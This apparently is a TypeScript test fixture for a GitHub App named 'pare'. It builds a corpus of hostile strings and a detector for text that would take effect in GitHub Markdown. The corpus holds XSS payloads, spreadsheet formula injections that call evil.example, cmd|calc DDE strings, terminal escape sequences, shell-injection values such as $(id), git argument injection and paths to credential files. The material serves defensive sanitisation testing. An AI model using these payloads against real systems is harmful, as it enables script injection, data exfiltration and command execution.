import { HOSTILE } from '../report/fixture.ts';

/** What would act in a body, a dashboard, a commit message, a comment, a path or a branch name of this App in particular. */
const OURS: readonly string[] = [
  '<!-- pare-pull:v1 eyJ2ZXJzaW9uIjoxfQ -->',
  '<!-- pare-memory:v1 AAAA -->',
  '<!-- pare-overflow:v1 0 0123456789abcdef -->',
  '<!-- pare-onboarding:v1 0123456789abcdef -->',
  '- [x] <!-- pare-tick:open:abc --> x',
  '\n- [x] <!-- pare-tick:resume:all --> x',
  '\r\n- [x] <!-- pare-tick:brake:all --> x',
  '--> <!-- pare-tick:rerun:all -->',
  'x\nPare-Tree: 0000000000000000000000000000000000000000',
  'x\r\rPare-Edit: 00',
  '\n/pare pause',
  '/pare drop sgr-1',
  'Co-authored-by: eve <eve@example.com>',
  '\nSigned-off-by: eve',
  '[skip ci]',
  '../../.github/workflows/x.yml',
  '.git/hooks/pre-commit',
  'C:\\windows\\system32',
  'a/../../b',
  '-rf',
  '--upload-pack=x',
  'refs/heads/main',
  'main..evil',
  'x.lock',
  'a b~c^d:e?f*g[h',
  '@{upstream}',
  '%0a%0dfixes%20#1',
  '&#64;octocat',
  '&commat;octocat',
  'ＧＨ－1 ＠octocat ＃1',
  'https://github.com/o/r/pull/1',
  'o/r@0123456789abcdef0123456789abcdef01234567',
  '0123456789abcdef0123456789abcdef01234567',
  '*[_`~<|\\',
  '</details></table>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '|\n|---|\n| x |',
  '`'.repeat(70),
  '\u2028# heading',
];

const KEYWORDS = ['close', 'closes', 'closed', 'fix', 'fixes', 'fixed', 'resolve', 'resolves', 'resolved'];
/** U+061C, LRM and RLM, embeddings, overrides, isolates, and what is invisible or breaks a line besides. */
const CONTROLS = [
  0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200b, 0x200c, 0x200d,
  0x2028, 0x2029, 0xfeff, 0x180e, 0xad, 0x0, 0x7, 0x8, 0xb, 0xc, 0x1b, 0x7f, 0x85, 0x9b, 0x9d, 0xe0001,
];

/** By what would be done with them. */
const KINDS: readonly string[] = [
  // Mentions.
  '@octocat',
  '@octo-cat-',
  'a @octocat b',
  '(@octocat)',
  '[@octocat]',
  '"@octocat"',
  '@org/team-name',
  '@@octocat',
  '\n@octocat',
  '&#x40;octocat',
  '\\@octocat',
  '@\u200boctocat',
  'me@octocat',
  '@dependabot merge',
  '@github-actions rerun',
  // References and closing keywords.
  ...KEYWORDS.map((word) => `${word} #1`),
  ...KEYWORDS.map((word) => `${word.toUpperCase()}: octo/repo#2`),
  ...KEYWORDS.map((word) => `${word} GH-3`),
  'Fixes: https://github.com/octo/repo/issues/4',
  'fixes\n#5',
  'fixes &#35;6',
  'gh-7',
  'octo/repo@main',
  // HTML.
  '<b>bold</b>',
  '<iframe src="https://evil.example">',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><input name=x>',
  '<svg/onload=alert(1)>',
  '<math><mtext></mtext></math>',
  '<object data=x>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<input type=checkbox checked>',
  '<kbd>x',
  '</td></tr></tbody>',
  '<!doctype html>',
  '<?php echo 1 ?>',
  '<![CDATA[x]]>',
  '&lt;script&gt;',
  '<picture><source srcset=//evil.example>',
  '< script >',
  '<\nscript>',
  'javascript:alert(1)',
  '" autofocus onfocus=alert(1) x="',
  // Fences, tables, headings.
  '~~~\nx',
  '``````',
  '    indented',
  '\ttabbed',
  '***',
  '---',
  '===',
  '||||',
  '\\|',
  '* [x] done',
  '1) one',
  '+ plus',
  '[^1]: note',
  '[x]: https://evil.example',
  ':tada: :+1:',
  '$$\\unicode{1}$$',
  '> [!CAUTION]\n> x',
  '```mermaid\ngraph\n```',
  '```suggestion\nx\n```',
  // Spreadsheets.
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+cmd|calc!A0',
  '-1+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\uff1d1+1',
  '\uff0b1',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '\n=1+1',
  '%0a=1',
  // Terminals.
  '\u001b]0;title\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b[6n',
  '\u001b[1A\u001b[2K',
  '\u001bP+q544e\u001b\\',
  '\u001b[?1049h',
  '\u009d0;x\u009c',
  '\b\b\b\bsafe',
  '\rsafe',
  '\u000esi',
  // Branches and refs.
  'HEAD',
  'refs/pull/1/head',
  'pare/../main',
  '-b',
  '--force',
  '@',
  'a//b',
  '.hidden',
  'trailing.',
  'x.lock/y',
  'a\\b',
  '~1',
  '^0',
  ':main',
  '?',
  '*',
  '[',
  '\u007f',
  'main\nmain',
  'feature/\u202emain',
  'é/ü',
  '𝕡𝕒𝕣𝕖',
  'PARE/MAIN',
  '$(id)',
  '`id`',
  ';id',
  '|id',
  '&& id',
  '%2e%2e%2f',
  // Paths.
  '/etc/passwd',
  '~/.ssh/id_rsa',
  '..\\..\\x',
  'a/./b',
  'a/.git/config',
  '.GIT/config',
  'git~1/config',
  'con',
  'nul.tf',
  'x.tf:stream',
  'file:///etc/passwd',
  '\\\\server\\share',
  'x'.repeat(255),
  'a/'.repeat(60),
  // Templates, prototypes, numbers.
  '${{ secrets.GITHUB_TOKEN }}',
  '{{7*7}}',
  '<%= 7*7 %>',
  'constructor',
  'toString',
  '__proto__.x',
  '1e309',
  '-0',
  'NaN',
  'null',
  ...CONTROLS.map((code) => `a${String.fromCodePoint(code)}b`),
];

/** By themselves. */
const BASE: readonly string[] = [...new Set([...HOSTILE, ...OURS, ...KINDS])];

/** 500 and more: each by itself, and many where something stands in front or behind. */
export const CORPUS: readonly string[] = [
  ...new Set(
    [...BASE, ...[...HOSTILE, ...OURS].flatMap((text) => [`web ${text}`, `\n${text}\n`, `\`${text}`])].map((text) =>
      text.slice(0, 4_000),
    ),
  ),
];

/** Text without its code spans, in which nothing acts: a run of backticks up to the next run of the same length. */
export function outsideCode(text: string): string {
  let out = '';
  for (let at = 0; at < text.length; ) {
    const open = /`+/y;
    open.lastIndex = at;
    if (text[at - 1] === '\\' || text[at] !== '`') {
      out += text[at];
      at += 1;
      continue;
    }
    const run = open.exec(text)![0];
    const rest = text.slice(at + run.length);
    const close = [...rest.matchAll(/`+/g)].find((one) => one[0] === run);
    // A span does not reach over a blank line.
    const end = close === undefined ? -1 : close.index;
    if (end < 0 || /\n\s*\n/.test(rest.slice(0, end))) {
      out += run;
      at += run.length;
    } else {
      out += '`…`';
      at += run.length + end + run.length;
    }
  }
  return out;
}

/** What would act in Markdown on GitHub; empty: nothing. Our own comments, line breaks and references are known. */
export function acting(text: string): string[] {
  const plain = outsideCode(text)
    .replace(/<!-- pare-(?:pull|memory|overflow|onboarding):v1 [A-Za-z0-9_ -]+? -->\s*$/, '')
    .replace(/^- \[ \] <!-- pare-tick:[a-z]+:[A-Za-z0-9_-]+ -->/gm, '- [ ]')
    .replaceAll('<br>', ' ');
  const patterns: [string, RegExp][] = [
    ['HTML', /(?<!\\)<[a-z/!?]/i],
    ['mention', /(?<![\w&#;])@[A-Za-z0-9]/],
    ['reference', /(?<![\w&])#\d(?!\d* )/],
    ['reference', /\bGH-\d/i],
    ['image or link', /(?<!\\)\](?:\(|\[)/],
    ['address', /\b(?:https?|ftp):\/\//i],
    ['address', /\bwww\.\w/i],
    ['ticked box', /^\s*[-*+] \[[xX]\]/m],
    ['control', /[^\P{C}\n]/u],
    ['command', /^\s*\/pare/m],
  ];
  return patterns.flatMap(([name, pattern]) => {
    const found = pattern.exec(plain);
    return found === null
      ? []
      : [`${name}: ${JSON.stringify(plain.slice(Math.max(0, found.index - 30), found.index + 40))}`];
  });
}
